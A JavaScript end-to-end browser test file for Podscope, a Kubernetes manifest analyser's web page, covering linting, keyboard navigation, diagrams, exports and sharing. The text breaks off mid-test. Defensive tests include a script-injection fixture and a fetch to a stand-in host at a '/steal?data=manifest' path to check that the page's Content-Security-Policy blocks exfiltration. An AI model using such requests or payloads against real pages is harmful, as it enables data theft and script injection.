// End to end: the built page (www/dist) in Debian's Chromium, served on 127.0.0.1 without any
// security header, so the page's own Content-Security-Policy meta tag is all that protects it.

import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { mkdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { startServer, launch, openPage, setText, foreignRequests, WWW } from "./browser.mjs";
import { manifestOfLines, manifestOfBytes } from "./fixtures/generate.mjs";
import { MIN_READABLE } from "../src/ui/diagram-panel.js";
import { ITEM_LIMIT } from "../src/ui/diagnostics-panel.js";

const SHOTS = join(WWW, "test-results");

let server;
let browser;
let page;
let record;
const records = [];

before(async () => {
  await mkdir(SHOTS, { recursive: true });
  server = await startServer({ headers: false });
  browser = await launch();
  await browser.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: server.url.replace(/\/$/, "") });
  ({ page, record } = await openPage(browser.context, server.url));
  records.push(record);
  await page.waitForSelector(".ps-diagram-host [data-id]", { state: "attached" });
});

after(async () => {
  await browser?.close();
  await server?.close();
});

const evaluate = (fn, arg) => page.evaluate(fn, arg);
const selection = () =>
  evaluate(() => {
    const { state } = window.podscopePage.editor.view;
    const { from, to } = state.selection.main;
    const line = state.doc.lineAt(from);
    return { line: line.number, column: from - line.from + 1, text: state.sliceDoc(from, to) };
  });
async function loadExample(id) {
  await page.click("#examples-button");
  const before = await evaluate(() => window.podscopePage.timings.length);
  await page.click(`.menu-item[data-item="${id}"]`);
  await page.waitForFunction((n) => window.podscopePage.timings.length > n, before);
}

test("the page opens with an example analysed, and nothing complains", async (t) => {
  assert.match(await page.textContent("#editor-sub"), /Log shipper sidecar · 1 document/);
  assert.equal(await page.textContent("#verdict-pill"), "Valid");
  assert.match(await page.textContent(".ps-problems-list"), /No problems/);
  assert.match(await page.textContent(".app-footer"), /Your manifest is never uploaded/);
  assert.match(await page.textContent("#version"), /^Podscope \d+\.\d+\.\d+/);
  // The page marks its first diagram; how soon it comes is measured by `npm run bench:web`.
  assert.equal(await evaluate(() => performance.getEntriesByName("podscope:first-diagram").length), 1);
  assert.deepEqual(record.pageErrors, []);
  assert.deepEqual(record.consoleErrors, []);
});

test("typing a mistake underlines it at its line and column and lists it", async () => {
  // Put the cursor after "sidecar" on line 25 and type, as a user would.
  await evaluate(() => {
    const view = window.podscopePage.editor.view;
    const line = view.state.doc.line(25);
    view.dispatch({ selection: { anchor: line.to } });
    view.focus();
  });
  const before = await evaluate(() => window.podscopePage.timings.length);
  await page.keyboard.type("_X");
  await page.waitForFunction((n) => window.podscopePage.timings.length > n, before);
  const item = page.locator(".ps-item", { hasText: "sidecar_X" });
  await item.waitFor();
  assert.match(await item.textContent(), /25:11/);
  assert.match(await item.textContent(), /PS\d{4}/);
  assert.equal(await page.textContent("#verdict-pill"), "1 error");
  const mark = await evaluate(() => {
    const view = window.podscopePage.editor.view;
    const el = document.querySelector(".cm-lintRange-error");
    const pos = view.posAtDOM(el, 0);
    const line = view.state.doc.lineAt(pos);
    return { text: el.textContent, line: line.number, column: pos - line.from + 1 };
  });
  assert.deepEqual(mark, { text: "sidecar_X", line: 25, column: 11 });
  assert.equal(await page.locator(".cm-gutter-lint .cm-lint-marker-error").count(), 1);
});

test("hovering the underline shows the message, help and code", async () => {
  await page.hover(".cm-lintRange-error");
  const tooltip = page.locator(".cm-tooltip-lint");
  await tooltip.waitFor();
  const text = await tooltip.textContent();
  assert.match(text, /spec\.containers\[1\]\.name: Invalid value: "sidecar_X"/);
  assert.match(text, /PS\d{4}/);
  await page.mouse.move(1, 1);
});

test("clicking a problem selects its range in the editor", async () => {
  await evaluate(() => window.podscopePage.editor.view.dispatch({ selection: { anchor: 0 } }));
  await page.click(".ps-item");
  assert.deepEqual(await selection(), { line: 25, column: 11, text: "sidecar_X" });
  assert.ok(await evaluate(() => document.activeElement.closest(".cm-editor") !== null), "the editor has the focus");
  await page.keyboard.press("Control+z");
  await page.waitForFunction(() => document.querySelector("#verdict-pill").textContent === "Valid");
});

test("the keyboard reaches every panel", async () => {
  await loadExample("mistakes");
  await page.keyboard.press("Alt+2");
  assert.equal(await evaluate(() => document.activeElement.classList.contains("ps-item")), true);
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  const second = await evaluate(() => window.podscopePage.analysis.diagnostics[1].range.start);
  const at = await selection();
  assert.deepEqual({ line: at.line, column: at.column }, second);
  await page.keyboard.press("Alt+3");
  assert.equal(await evaluate(() => document.activeElement.classList.contains("ps-diagram-viewport")), true);
  await page.keyboard.press("Alt+1");
  assert.ok(await evaluate(() => document.activeElement.closest(".cm-editor") !== null));
  // F8 in the editor goes to the next problem.
  await evaluate(() => window.podscopePage.editor.view.dispatch({ selection: { anchor: 0 } }));
  await page.keyboard.press("F8");
  const first = await evaluate(() => window.podscopePage.analysis.diagnostics[0].range.start);
  const f8 = await selection();
  assert.deepEqual({ line: f8.line, column: f8.column }, first);
  await page.click(".app-footer");
  await page.keyboard.press("?");
  assert.equal(await page.isVisible("#keys-dialog"), true);
  await page.keyboard.press("Escape");
  assert.equal(await page.isVisible("#keys-dialog"), false);
  // The examples menu by keyboard alone.
  await page.focus("#examples-button");
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => window.podscopePage.source.name === "Init containers");
});

// What has the keyboard focus, through the diagram's shadow root, named for the Tab order test.
const focusStop = () =>
  evaluate(() => {
    let el = document.activeElement;
    while (el?.shadowRoot?.activeElement) el = el.shadowRoot.activeElement;
    if (!el || el === document.body) return "body";
    if (el.closest(".cm-content")) return "editor";
    if (el.getAttribute("data-id")) return `node ${el.getAttribute("data-id")}`;
    if (el.classList.contains("ps-filter")) return `filter ${el.dataset.severity ?? el.textContent.trim()}`;
    if (el.classList.contains("ps-item")) return "problem";
    if (el.classList.contains("ps-seg")) return `view ${el.dataset.view}`;
    if (el.classList.contains("ps-badge")) return "badge";
    if (el.classList.contains("ps-diagram-viewport")) return "diagram";
    if (el.classList.contains("skip-link")) return "skip link";
    return el.id || el.getAttribute("aria-label") || el.textContent.trim();
  });

test("Tab walks the whole page: toolbar, editor (Tab indents, Escape then Tab leaves), problems, diagram and its boxes", async () => {
  await loadExample("mistakes");
  await page.focus(".skip-link");
  const stops = [await focusStop()];
  const tab = async (key = "Tab") => {
    await page.keyboard.press(key);
    stops.push(await focusStop());
    return stops.at(-1);
  };
  while ((await tab()) !== "editor") assert.ok(stops.length < 20, `the editor is reached: ${stops}`);
  assert.deepEqual(stops, [
    "skip link",
    "examples-button",
    "open-button",
    "share-button",
    "export-button",
    "pod-security-select",
    "profile-select",
    "privacy-button",
    "keys-button",
    "layout-button",
    "theme-button",
    "editor",
  ]);
  await page.waitForSelector("#editor-tab-hint", { state: "visible", timeout: 2000 }); // the editor says how to leave it
  // Inside the editor, Tab indents the line and the focus stays.
  const text = await evaluate(() => window.podscopePage.editor.getText());
  await evaluate(() => window.podscopePage.editor.view.dispatch({ selection: { anchor: 0 }, userEvent: "select" }));
  assert.equal(await tab(), "editor");
  assert.equal(await evaluate(() => window.podscopePage.editor.getText().slice(0, 2)), "  ", "Tab indented the first line");
  await page.keyboard.press("Control+z");
  assert.equal(await evaluate(() => window.podscopePage.editor.getText()), text);
  // Escape, then Tab: on to the problems.
  stops.length = 0;
  await page.keyboard.press("Escape");
  const problems = await evaluate(() => window.podscopePage.analysis.diagnostics.length);
  assert.ok(problems > 1);
  while ((await tab()) !== "diagram") assert.ok(stops.length < 30, `the diagram is reached: ${stops}`);
  await page.waitForSelector("#editor-tab-hint", { state: "hidden", timeout: 2000 });
  assert.deepEqual(stops, [
    "split-editor-problems",
    "filter error",
    "filter warning",
    "filter info",
    "filter By rule",
    "problem", // one stop for the list: the arrow keys move inside it
    "split-columns",
    "view pod", // one stop for the views: the arrow keys choose
    "Zoom out",
    "Zoom to actual size",
    "Zoom in",
    "Fit diagram to panel",
    "diagram",
  ]);
  // Then every box of the diagram, and the pattern badges, and out of the page.
  stops.length = 0;
  while (!["body", "skip link"].includes(await tab())) assert.ok(stops.length < 60, `the end is reached: ${stops}`);
  const graph = await evaluate(() => window.podscopePage.analysis.graphs[0]);
  const reached = stops.filter((s) => s.startsWith("node ")).map((s) => s.slice(5));
  for (const node of graph.nodes) assert.ok(reached.includes(node.id), `${node.id} is reached by Tab (${reached})`);
  assert.equal(new Set(reached).size, reached.length, "each box once");
  assert.equal(stops.filter((s) => s === "badge").length, graph.patterns.length, "each pattern badge");
  assert.deepEqual(stops.filter((s) => !s.startsWith("node ") && s !== "badge").slice(0, 1), [stops.at(-1)], "nothing else before the end");
  // Shift+Tab from the diagram goes back the same way.
  await page.focus(".ps-diagram-viewport");
  assert.equal(await tab("Shift+Tab"), "Fit diagram to panel");
});

test("severity filters and counts follow the analysis", async () => {
  await loadExample("mistakes");
  const counts = await evaluate(() => {
    const c = { error: 0, warning: 0, info: 0 };
    for (const d of window.podscopePage.analysis.diagnostics) c[d.severity]++;
    return c;
  });
  assert.ok(counts.error >= 6 && counts.warning >= 1, JSON.stringify(counts));
  assert.equal(await page.textContent('.ps-filter[data-severity="error"] .ps-filter-count'), String(counts.error));
  assert.equal(await page.locator(".ps-item").count(), counts.error + counts.warning + counts.info);
  await page.click('.ps-filter[data-severity="error"]');
  assert.equal(await page.locator(".ps-item").count(), counts.warning + counts.info);
  await page.click('.ps-filter[data-severity="error"]');
  assert.match(await page.textContent(".ps-group-head"), /Pod\s*web.*rejected/i);
});

test("the problems group by rule, with a count per rule, and back by document", async () => {
  await loadExample("mistakes");
  const total = await page.locator(".ps-item").count();
  await page.click(".ps-group-toggle");
  const heads = await page.locator(".ps-group-head").allTextContents();
  const codes = await evaluate(() => [...new Set(window.podscopePage.analysis.diagnostics.map((d) => d.code))].sort());
  assert.equal(heads.length, codes.length, "one group per rule");
  heads.forEach((head, i) => assert.ok(head.startsWith(codes[i]), `${head} is ${codes[i]}`));
  assert.match(heads.find((h) => h.startsWith("PS1202")), /container-name-format.*1 error/);
  assert.equal(await page.locator(".ps-item").count(), total, "every problem is still listed");
  await page.click(".ps-group-toggle");
  assert.match(await page.textContent(".ps-group-head"), /Pod\s*web.*rejected/i);
});

test("every example loads and is analysed", async () => {
  const ids = await evaluate(() => {
    document.querySelector("#examples-button").click();
    const ids = [...document.querySelectorAll(".menu-item")].map((b) => b.dataset.item);
    document.querySelector("#examples-button").click();
    return ids;
  });
  assert.equal(ids.length, 11);
  for (const id of ids) {
    await loadExample(id);
    const documents = await evaluate(() => window.podscopePage.analysis.documents.length);
    assert.ok(documents >= 1, id);
  }
  assert.deepEqual(record.pageErrors, []);
});

test("clicking a diagram node selects its YAML", async (t) => {
  await loadExample("elastic-stack-sidecar");
  const node = page.locator('.ps-diagram-host [data-id^="container:"]').first();
  const id = await node.getAttribute("data-id");
  const expected = await evaluate((id) => window.podscopePage.analysis.graphs[0].nodes.find((n) => n.id === id), id);
  await node.click();
  const at = await selection();
  assert.deepEqual({ line: at.line, column: at.column }, expected.range.start);
  assert.equal(at.text, expected.name);
});

test("hovering a node lights its lines; the cursor lights its node", async (t) => {
  await loadExample("elastic-stack-sidecar");
  await page.hover('.ps-diagram-host [data-id="container:sidecar"]');
  assert.ok((await page.locator(".cm-linked-line").count()) >= 1);
  assert.ok((await page.locator(".ps-diagram-host .lit").count()) >= 2, "the node and its edges");
  await page.mouse.move(1, 1);
  assert.equal(await page.locator(".cm-linked-line").count(), 0);
  // A cursor the page put there (a new manifest starts at 1:1) is not followed.
  assert.equal(await page.getAttribute("#diagram", "data-cursor"), "");
  await evaluate(() => {
    const view = window.podscopePage.editor.view;
    view.dispatch({ selection: { anchor: view.state.doc.line(26).from + 4 }, userEvent: "select" });
  });
  assert.equal(await page.getAttribute("#diagram", "data-cursor"), "container:sidecar");
});

test("not-checked notes are one collapsed line after the findings, listed on a click", async () => {
  await setText(page, "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {name: a}\nrules: []\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: b}\n---\napiVersion: v1\nkind: Pod\nmetadata: {name: MyApp}\nspec:\n  containers: [{name: app, image: nginx}]\n");
  const codes = () => page.$$eval("#problems .ps-item .ps-item-code", (els) => els.map((e) => e.textContent));
  assert.ok((await codes()).includes("PS1101"));
  assert.ok(!(await codes()).includes("PS0011"));
  const toggle = () => page.locator("#problems .ps-not-checked-toggle");
  assert.equal(await toggle().textContent(), "Show the 2 objects not checked: ClusterRole, Role");
  assert.equal(await toggle().getAttribute("aria-expanded"), "false");
  await toggle().click();
  assert.equal((await codes()).filter((c) => c === "PS0011").length, 2);
  assert.equal(await toggle().getAttribute("aria-expanded"), "true");
  // The findings come first; the notes follow them.
  assert.equal((await codes()).at(-1), "PS0011");
  await toggle().click();
  assert.ok(!(await codes()).includes("PS0011"));
});

test("the timeline view renders", async (t) => {
  await loadExample("native-sidecar");
  await page.click('.ps-seg[data-view="timeline"]');
  assert.equal(await evaluate(() => window.podscopePage.diagram.state.view), "timeline");
  assert.equal(await page.locator(".ps-diagram-host svg").count(), 1);
  assert.ok((await page.locator(".ps-diagram-host [data-id]").count()) >= 3);
  await page.screenshot({ path: join(SHOTS, "timeline.png") });
  await page.click('.ps-seg[data-view="pod"]');
});

test("the app view draws each workload with its Services; a click on a workload opens its pod view (screenshots, both themes)", async () => {
  await loadExample("online-boutique");
  await page.click('.ps-seg[data-view="app"]');
  await page.waitForSelector('.ps-diagram-host [data-id^="workload:"]', { state: "attached" });
  assert.equal(await evaluate(() => window.podscopePage.diagram.state.view), "app");
  assert.equal(await page.locator('.ps-diagram-host g.node[data-id^="workload:"]').count(), 12);
  assert.equal(await page.locator('.ps-diagram-host g.node[data-id^="service:"]').count(), 12);
  const selects = await evaluate(() => window.podscopePage.analysis.application.edges.filter((e) => e.kind === "selects").length);
  assert.equal(await page.locator('.ps-diagram-host g.edge.selects').count(), selects);
  // The document picker and the pattern badges belong to one pod: hidden here.
  assert.equal(await page.locator(".ps-diagram-toolbar select").isVisible(), false);
  await page.screenshot({ path: join(SHOTS, "app-online-boutique-light.png") });
  const dark = await openPage(browser.context, `${server.url}#example=online-boutique`, { colorScheme: "dark", viewport: { width: 1440, height: 900 } });
  records.push(dark.record);
  await dark.page.waitForSelector(".ps-diagram-host [data-id]", { state: "attached" });
  await dark.page.click('.ps-seg[data-view="app"]');
  await dark.page.waitForSelector('.ps-diagram-host [data-id^="workload:"]', { state: "attached" });
  await dark.page.screenshot({ path: join(SHOTS, "app-online-boutique-dark.png") });
  await dark.page.close();
  const workload = (name) => evaluate((name) => window.podscopePage.analysis.application.nodes.find((n) => n.kind === "workload" && n.name === name), name);
  // A click on the frontend (the first row) opens its pod view and selects its name.
  const frontend = await workload("frontend");
  await page.locator(`.ps-diagram-host g.node[data-id="${frontend.id}"] > rect`).first().click();
  await page.waitForFunction(() => window.podscopePage.diagram.state.view === "pod");
  assert.equal(await evaluate(() => window.podscopePage.diagram.state.document), frontend.document);
  assert.equal((await selection()).text, "frontend");
  await page.waitForSelector('.ps-diagram-host [data-id^="container:"]', { state: "attached" });
  // From the keyboard: a workload further down, focused (the diagram pans to it) and Enter.
  await page.click('.ps-seg[data-view="app"]');
  const cart = await workload("cartservice");
  await page.locator(`.ps-diagram-host g.node[data-id="${cart.id}"]`).first().focus();
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => window.podscopePage.diagram.state.view === "pod");
  assert.equal(await evaluate(() => window.podscopePage.diagram.state.document), cart.document);
  assert.equal((await selection()).text, "cartservice");
  // The app view of a text without workloads says so.
  await page.click('.ps-seg[data-view="app"]');
  await setText(page, "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: r}\nrules: []\n");
  await page.waitForFunction(() => document.querySelector("#diagram")?.textContent.includes("No application to draw"));
  await page.click('.ps-seg[data-view="pod"]');
  // The next tests start from a fresh manifest (the cursor the clicks moved is forgotten).
  await loadExample("elastic-stack-sidecar");
});

test("the first view: the pod fitted, readable and centred; the cursor followed once the user moves it; re-fitted on Fit, layout and size", async () => {
  // As in Argo CD's install.yaml: other objects first (the cursor, at 1:1, is in a ServiceAccount), then a wide pod.
  const text = "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: storefront\n---\n" + manifestOfLines(300);
  await setText(page, text);
  const frame = () =>
    evaluate(() => {
      const root = document.querySelector(".ps-diagram-host").shadowRoot;
      const stage = root.querySelector(".stage").getBoundingClientRect();
      const pod = root.querySelector('[data-id="pod"] > rect').getBoundingClientRect();
      const parts = [...root.querySelectorAll("[data-id]")].map((el) => el.getBoundingClientRect()).filter((r) => r.width > 0);
      const all = { left: Math.min(...parts.map((r) => r.left)), right: Math.max(...parts.map((r) => r.right)) };
      const { scale, frame } = window.podscopePage.diagram.state;
      const gaps = (r) => ({ left: Math.round(r.left - stage.left), right: Math.round(stage.right - r.right), width: Math.round(r.right - r.left) });
      return { scale, frame, stage: Math.round(stage.width), top: Math.round(pod.top - stage.top), pod: gaps(pod), all: gaps(all) };
    });
  // The whole picture centred when it fits the width; otherwise the pod, or its left part.
  const centred = (f) => {
    if (f.all.width <= f.stage) return Math.abs(f.all.left - f.all.right) <= 4;
    return f.pod.width <= f.stage ? Math.abs(f.pod.left - f.pod.right) <= 4 : f.pod.left >= 0 && f.pod.left < 40;
  };
  const first = await frame();
  assert.equal(first.frame, "auto");
  assert.ok(first.scale >= MIN_READABLE && first.scale <= 1, `readable: ${first.scale}`);
  assert.ok(centred(first), `the pod is centred: ${JSON.stringify(first)}`);
  assert.ok(first.top >= 0 && first.top < 200, `the pod is in view: ${first.top}`);
  assert.equal(await page.getAttribute("#diagram", "data-cursor"), "", "the cursor at 1:1 is not followed");
  // Zooming is the user's; Fit brings the same first view back.
  await page.click('[aria-label="Zoom in"]');
  assert.equal((await frame()).frame, "user");
  await page.click('[aria-label="Fit diagram to panel"]');
  assert.deepEqual(await frame(), first);
  // A layout switch and a resize fit the picture to the new panel.
  await page.click("#layout-button");
  await page.waitForFunction(() => document.querySelector(".ps-diagram-host").shadowRoot.querySelector(".stage").getBoundingClientRect().width < 900);
  await page.waitForTimeout(100);
  const beside = await frame();
  assert.equal(beside.frame, "auto");
  assert.ok(beside.scale >= MIN_READABLE && centred(beside), JSON.stringify(beside));
  await page.click("#layout-button");
  await page.setViewportSize({ width: 1200, height: 900 });
  await page.waitForTimeout(150);
  const smaller = await frame();
  assert.ok(smaller.scale >= MIN_READABLE && centred(smaller), JSON.stringify(smaller));
  // The user moves the cursor (keys in the editor): from then on the diagram follows it.
  const line = text.split("\n").findIndex((l) => l.includes("- name: service-3")) + 1;
  await evaluate((n) => {
    const view = window.podscopePage.editor.view;
    view.dispatch({ selection: { anchor: view.state.doc.line(n).from } });
    view.focus();
  }, line);
  assert.equal(await page.getAttribute("#diagram", "data-cursor"), "", "a selection the page made is not followed");
  await page.keyboard.press("End");
  await page.waitForFunction(() => document.querySelector("#diagram").dataset.cursor === "container:service-3");
  assert.equal(await evaluate(() => window.podscopePage.diagram.state.following), true);
});

test("a share link carries the manifest and opens it again", async () => {
  const text = "# ünïcödé ✓ 😀 & <tags>\n" + (await evaluate(() => window.podscopePage.editor.getText()));
  await setText(page, text);
  await page.click("#share-button");
  await page.waitForFunction(() => window.location.hash.startsWith("#m="));
  const url = page.url();
  assert.match(url, /#m=[A-Za-z0-9_-]+$/);
  assert.equal(await evaluate(() => navigator.clipboard.readText()), url);
  assert.match(await page.textContent("#toast"), /nothing is uploaded/);
  const other = await openPage(browser.context, url);
  records.push(other.record);
  assert.equal(await other.page.evaluate(() => window.podscopePage.editor.getText()), text);
  assert.match(await other.page.textContent("#editor-sub"), /Shared manifest/);
  await other.page.close();
  // Editing drops the stale fragment, so a reload cannot bring back an old version.
  await page.keyboard.press("End");
  await evaluate(() => window.podscopePage.editor.view.dispatch({ changes: { from: 0, insert: "#\n" } }));
  assert.equal(await evaluate(() => window.location.hash), "");
});

async function exportFile(id) {
  await page.click("#export-button");
  const [download] = await Promise.all([page.waitForEvent("download"), page.click(`.menu-item[data-item="${id}"]`)]);
  return { name: download.suggestedFilename(), bytes: await readFile(await download.path()) };
}

test("the report exports as the CLI's JSON and as SARIF", async () => {
  await loadExample("mistakes");
  const analysis = await evaluate(() => window.podscopePage.analysis);
  const json = await exportFile("json");
  assert.equal(json.name, "web-pod.podscope.json");
  const report = JSON.parse(json.bytes.toString("utf8"));
  assert.equal(report.files[0].path, "mistakes.yaml");
  assert.equal(report.files[0].diagnostics.length, analysis.diagnostics.length);
  assert.equal(report.summary.errors, analysis.diagnostics.filter((d) => d.severity === "error").length);
  const sarif = JSON.parse((await exportFile("sarif")).bytes.toString("utf8"));
  assert.equal(sarif.version, "2.1.0");
  assert.equal(sarif.runs[0].columnKind, "utf16CodeUnits");
  assert.equal(sarif.runs[0].results.length, analysis.diagnostics.length);
  const first = sarif.runs[0].results[0];
  assert.equal(first.locations[0].physicalLocation.region.startLine, analysis.diagnostics[0].range.start.line);
  assert.equal(sarif.runs[0].tool.driver.rules[first.ruleIndex].id, first.ruleId);
});

test("the diagram exports as SVG, PNG and Mermaid", async (t) => {
  await loadExample("elastic-stack-sidecar");
  const svgFile = await exportFile("svg");
  assert.equal(svgFile.name, "app-pod-pod.svg");
  const svg = svgFile.bytes.toString("utf8");
  const parsed = await evaluate((text) => {
    const doc = new DOMParser().parseFromString(text, "image/svg+xml");
    return { root: doc.documentElement.localName, errors: doc.getElementsByTagName("parsererror").length };
  }, svg);
  assert.deepEqual(parsed, { root: "svg", errors: 0 });
  const pngFile = await exportFile("png");
  assert.equal(pngFile.name, "app-pod-pod.png");
  const png = pngFile.bytes;
  assert.deepEqual([...png.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  assert.ok(png.readUInt32BE(16) > 100 && png.readUInt32BE(20) > 100, "PNG width and height");
  const mermaidFile = await exportFile("mermaid");
  assert.equal(mermaidFile.name, "app-pod-pod.mmd");
  const mermaid = mermaidFile.bytes.toString("utf8");
  assert.match(mermaid, /^(%%.*\n)*\s*(flowchart|graph|gantt|sequenceDiagram|stateDiagram)/m);
  // Each view has its own names, so the timeline's exports never overwrite the pod's.
  await page.click('.ps-seg[data-view="timeline"]');
  try {
    assert.deepEqual(
      [(await exportFile("svg")).name, (await exportFile("png")).name, (await exportFile("mermaid")).name, (await exportFile("dot")).name],
      ["app-pod-timeline.svg", "app-pod-timeline.png", "app-pod-timeline.mmd", "app-pod-timeline.dot"],
    );
  } finally {
    await page.click('.ps-seg[data-view="pod"]');
  }
});

test("opening, dropping and pasting a file replace the manifest", async () => {
  const manifest = (name) => `apiVersion: v1\nkind: Pod\nmetadata:\n  name: ${name}\nspec:\n  containers:\n  - name: app\n    image: nginx\n`;
  await page.setInputFiles("#file-input", { name: "opened.yaml", mimeType: "text/yaml", buffer: Buffer.from(manifest("opened")) });
  await page.waitForFunction(() => window.podscopePage.editor.getText().includes("name: opened"));
  // The subtitle follows the analysis of the new text, which may land a moment later.
  await page.waitForFunction(() => /opened\.yaml/.test(document.querySelector("#editor-sub").textContent));
  assert.match(await page.textContent("#editor-sub"), /opened\.yaml/);
  await page.evaluate((text) => {
    const data = new DataTransfer();
    data.items.add(new File([text], "dropped.yaml", { type: "text/yaml" }));
    for (const type of ["dragenter", "dragover", "drop"]) window.dispatchEvent(new DragEvent(type, { dataTransfer: data, bubbles: true, cancelable: true }));
  }, manifest("dropped"));
  await page.waitForFunction(() => window.podscopePage.editor.getText().includes("name: dropped"));
  assert.equal(await page.isHidden("#drop-overlay"), true);
  await page.evaluate((text) => {
    const data = new DataTransfer();
    data.setData("text/plain", text);
    document.body.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
  }, manifest("pasted"));
  await page.waitForFunction(() => window.podscopePage.editor.getText().includes("name: pasted"));
  await page.setInputFiles("#file-input", { name: "binary.yaml", mimeType: "application/octet-stream", buffer: Buffer.from([0x50, 0x00, 0x01]) });
  await page.waitForFunction(() => /binary file/.test(document.querySelector("#toast").textContent));
  assert.ok(await evaluate(() => window.podscopePage.editor.getText().includes("name: pasted")), "a binary file changes nothing");
});

test("names with markup execute nothing, anywhere on the page", async () => {
  const evil = await readFile(join(WWW, "tests", "fixtures", "xss.yaml"), "utf8");
  await setText(page, evil);
  // Show everything that could carry a name: problems, hovers, the diagram, its badges.
  for (const mark of await page.locator(".cm-lintRange-error").all()) {
    await mark.hover();
    await page.locator(".cm-tooltip-lint").waitFor();
  }
  await evaluate(() => window.podscopePage.diagram.zoomBy(0.2)); // the whole picture in view, to point at each part
  for (const node of await page.locator(".ps-diagram-host [data-id]").all()) await node.hover({ force: true });
  await page.click('.ps-seg[data-view="timeline"]');
  await page.click('.ps-seg[data-view="pod"]');
  await page.click("#share-button");
  await page.waitForFunction(() => window.location.hash.startsWith("#m="));
  const other = await openPage(browser.context, page.url());
  records.push(other.record);
  for (const p of [page, other.page]) {
    const report = await p.evaluate(() => {
      const roots = [document, ...[...document.querySelectorAll("*")].filter((e) => e.shadowRoot).map((e) => e.shadowRoot)];
      const all = roots.flatMap((r) => [...r.querySelectorAll("*")]);
      return {
        xss: window.__xss ?? null,
        handlers: all.filter((e) => [...e.attributes].some((a) => a.name.toLowerCase().startsWith("on"))).map((e) => e.outerHTML.slice(0, 80)),
        injected: all
          .filter((e) => ["iframe", "b", "i"].includes(e.localName) || (e.localName === "script" && !e.src) || (e.localName === "img" && !e.src.endsWith("/favicon.svg")))
          .map((e) => e.outerHTML.slice(0, 80)),
        violations: window.__cspViolations ?? [],
        shown: document.querySelector(".ps-problems-list").textContent.includes("<script>window.__xss=1</script>"),
      };
    });
    assert.deepEqual(report, { xss: null, handlers: [], injected: [], violations: [], shown: true });
  }
  await other.page.close();
});

test("the Content-Security-Policy meta tag stops requests to any other origin", async () => {
  const html = await readFile(join(WWW, "dist", "index.html"), "utf8");
  const policy = html.match(/http-equiv="Content-Security-Policy"\s+content="([^"]+)"/)?.[1] ?? "";
  assert.match(policy, /default-src 'self'/);
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval'/);
  assert.match(policy, /connect-src 'self'/);
  assert.doesNotMatch(policy, /script-src[^;]*unsafe-inline/);
  const outcome = await evaluate(async () => {
    const fetched = await fetch("http://127.0.0.2:9/steal?data=manifest").then(
      () => "sent",
      () => "blocked",
    );
    const image = await new Promise((resolve) => {
      const img = new Image();
      img.onload = () => resolve("loaded");
      img.onerror = () => resolve("blocked");
      img.src = "http://127.0.0.2:9/pixel.png";
    });
    await new Promise((r) => setTimeout(r, 50));
    return { fetched, image, violations: window.__cspViolations.filter((v) => v.includes("127.0.0.2")).length };
  });
  assert.deepEqual(outcome, { fetched: "blocked", image: "blocked", violations: 2 });
  assert.ok(record.blocked.includes("http://127.0.0.2:9/pixel.png"), "Chromium reports the image as blocked by the CSP");
  await evaluate(() => (window.__cspViolations.length = 0));
});

test("a keystroke that changes nothing drawn keeps every diagram element; one in a name patches only its group", async () => {
  // How long each costs is measured by `npm run bench:web`; this pins the behaviour that makes it cheap.
  await setText(page, manifestOfLines(300));
  const outcome = await evaluate(async () => {
    const page = window.podscopePage;
    const view = page.editor.view;
    const svg = () => document.querySelector(".ps-diagram-host").shadowRoot.querySelector(".stage > svg");
    const tag = () => [...svg().children].forEach((child, i) => (child.__podscopeTag = i));
    const kept = () => [...svg().children].filter((child) => child.__podscopeTag !== undefined).length;
    const settle = async () => {
      await page.run();
      await new Promise(requestAnimationFrame);
    };
    view.dispatch({ changes: { from: view.state.doc.length, insert: "# end\n" } });
    await settle();
    const groups = svg().children.length;
    tag();
    view.dispatch({ changes: { from: view.state.doc.length - 1, insert: "x" } });
    await settle();
    const afterComment = kept();
    const named = view.state.doc.line(view.state.doc.toString().split("\n").findIndex((l) => l.includes("- name: service-0")) + 1).to;
    tag();
    view.dispatch({ changes: { from: named, insert: "x" } });
    await settle();
    return { groups, afterComment, afterName: kept(), renamed: svg().textContent.includes("service-0x") };
  });
  assert.ok(outcome.groups > 1, `the diagram has ${outcome.groups} top-level groups`);
  assert.equal(outcome.afterComment, outcome.groups, "a comment edit replaces no group");
  assert.ok(outcome.renamed, "the renamed container is drawn");
  assert.equal(outcome.afterName, outcome.groups, "a renamed container is patched inside the kept groups");
});

test("each keystroke is analysed once, and the diagram is drawn from that analysis", async () => {
  await loadExample("elastic-stack-sidecar");
  await evaluate(() => {
    const view = window.podscopePage.editor.view;
    view.dispatch({ selection: { anchor: view.state.doc.line(25).to } });
    view.focus();
  });
  const calls = () => evaluate(() => ({ ...window.podscopePage.calls, runs: window.podscopePage.timings.length }));
  const before = await calls();
  for (const key of ["x", "y", "z"]) {
    const runs = (await calls()).runs;
    await page.keyboard.type(key);
    await page.waitForFunction((n) => window.podscopePage.timings.length > n, runs);
  }
  const after = await calls();
  const runs = after.runs - before.runs;
  assert.ok(runs >= 3, `${runs} runs for 3 keystrokes`);
  assert.equal(after.analyze - before.analyze, runs, "one analysis per run: the diagram does not analyse again");
  assert.ok(after.render - before.render >= 3, "the diagram is redrawn from each analysis");
  assert.equal(after.workspaces, before.workspaces, "the same workspace while the settings stay");
  await page.keyboard.press("Backspace");
  await page.keyboard.press("Backspace");
  await page.keyboard.press("Backspace");
});

test("the analysis runs in a Web Worker; results for an older text are dropped, the newest is shown", async () => {
  await loadExample("elastic-stack-sidecar");
  assert.equal(await evaluate(() => window.podscopePage.analyzer), "worker");
  const outcome = await evaluate(async () => {
    const page = window.podscopePage;
    const view = page.editor.view;
    const before = { runs: page.timings.length, dropped: page.calls.dropped, analyze: page.calls.analyze };
